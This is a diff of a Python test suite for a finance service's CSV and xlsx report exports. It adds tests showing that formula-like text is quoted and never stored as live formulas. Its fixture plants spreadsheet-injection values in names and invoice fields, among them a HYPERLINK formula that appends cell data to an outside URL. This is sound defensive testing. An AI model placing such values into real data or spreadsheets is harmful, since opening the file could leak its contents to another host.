@@ -256,10 +256,10 @@ def test_xlsx_is_a_complete_package_with_charts(month):
         assert "payable by county" in title
 
 
-def test_libreoffice_opens_the_xlsx_and_its_items_add_up(month, tmp_path):
+def libreoffice_sheet(raw: bytes, sheet: str, tmp_path: Path) -> list[list[str]]:
+    """The rows of one sheet of an xlsx as LibreOffice computes them (headless, to CSV)."""
     soffice = shutil.which("soffice")
     assert soffice, "LibreOffice is needed here: run scripts/ensure-libreoffice.sh (CI does)"
-    _, raw = get_xlsx(month["finance"])
     (tmp_path / "report.xlsx").write_bytes(raw)
     # Every sheet to its own CSV (sheet -1), UTF-8, raw values rather than as displayed.
     options = "44,34,76,1,,0,false,true,false,false,false,-1"
@@ -269,9 +269,14 @@ def test_libreoffice_opens_the_xlsx_and_its_items_add_up(month, tmp_path):
          str(tmp_path / "report.xlsx")],
         capture_output=True, text=True, timeout=120)
     assert done.returncode == 0, done.stderr
-    items_csv = tmp_path / "report-明细 Claim items.csv"
-    assert items_csv.exists(), (done.stdout, sorted(p.name for p in tmp_path.iterdir()))
-    rows = list(csv.reader(items_csv.open(encoding="utf-8")))
+    sheet_csv = tmp_path / f"report-{sheet}.csv"
+    assert sheet_csv.exists(), (done.stdout, sorted(p.name for p in tmp_path.iterdir()))
+    return list(csv.reader(sheet_csv.open(encoding="utf-8")))
+
+
+def test_libreoffice_opens_the_xlsx_and_its_items_add_up(month, tmp_path):
+    _, raw = get_xlsx(month["finance"])
+    rows = libreoffice_sheet(raw, "明细 Claim items", tmp_path)
     assert rows[0][2] == "统一社会信用代码" and rows[1][2] == "USCC"
     body = rows[2:-1]
     totals = month["rec"]["summary"]["totals"]
@@ -367,3 +372,59 @@ def test_xlsx_is_streamed_in_bounded_memory(tmp_path):
     # Streaming also means no <dimension> up front: read-only readers count the rows.
     wb = openpyxl.load_workbook(Path(tmp_path / "2000.xlsx"), read_only=True)
     assert sum(1 for _ in wb["明细 Claim items"].iter_rows()) == 2 + 4_000 + 1
+
+
+FORMULAS = ('=HYPERLINK("http://x"&A3,"x")', "+1", "-1+2", "@SUM(A1)", "=1+1")
+
+
+@pytest.fixture
+def formula_month(finance, as_key):
+    """A reconciled month whose names, county and invoice numbers all look like formulas."""
+    finance.post("/v1/providers", json={"id": "prov-f", "name": FORMULAS[0], "kind": "intelligent_computing",
+                                        "listed_from": "2025-05-13"})
+    _, u = setup_programme(finance, providers=(), enterprises=2)
+    for uscc, name in zip(u, FORMULAS[1:3], strict=True):
+        r = finance.patch(f"/v1/enterprises/{uscc}", json={"name": name, "county": FORMULAS[3]})
+        assert r.status_code == 200, r.json
+    p = as_key("provider", "prov-f")
+    for i, uscc in enumerate(u):
+        usage(p, uscc, 10_000 + i)
+        invoice(p, FORMULAS[4 - i], uscc, 10_000 + i)
+        claim(as_key("enterprise", uscc), [("prov-f", FORMULAS[4 - i], 10_000 + i)])
+    assert finance.post("/v1/reconciliations", json={"period": PERIOD}).status_code == 201
+    return finance
+
+
+def test_report_csv_text_cells_starting_like_formulas_are_quoted(formula_month):
+    rows, _ = get_csv(formula_month)
+    assert {r["enterprise_name"] for r in rows} == {"'+1", "'-1+2"}
+    assert {r["county"] for r in rows} == {"'@SUM(A1)"}
+    assert {r["invoice_no"] for r in rows} == {"'=1+1", "'@SUM(A1)"}
+    for r in rows:  # money stays a number
+        assert int(r["amount_paid"]) > 0 and int(r["payable"]) >= 0
+    cells = [v for r in rows for v in r.values() if isinstance(v, str)]
+    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")
+                or (v.startswith("-") and not v.lstrip("-").isdigit())]
+
+
+def test_report_xlsx_text_cells_are_never_formulas(formula_month, tmp_path):
+    wb, raw = get_xlsx(formula_month)
+    seen = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
+                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
+                    seen.add(c.value)
+    assert seen >= set(FORMULAS)
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/")
+                    and b"<f>" in z.read(n)]
+    items = libreoffice_sheet(raw, "明细 Claim items", tmp_path)
+    body = items[2:-1]
+    assert {r[3] for r in body} == {"+1", "-1+2"}  # the literal text, not 1 or 1
+    assert {r[4] for r in body} == {"@SUM(A1)"}
+    assert {r[6] for r in body} == {"=1+1", "@SUM(A1)"}
+    summary = libreoffice_sheet(raw, "汇总 Summary", tmp_path)
+    assert any(FORMULAS[0] in r for r in summary)
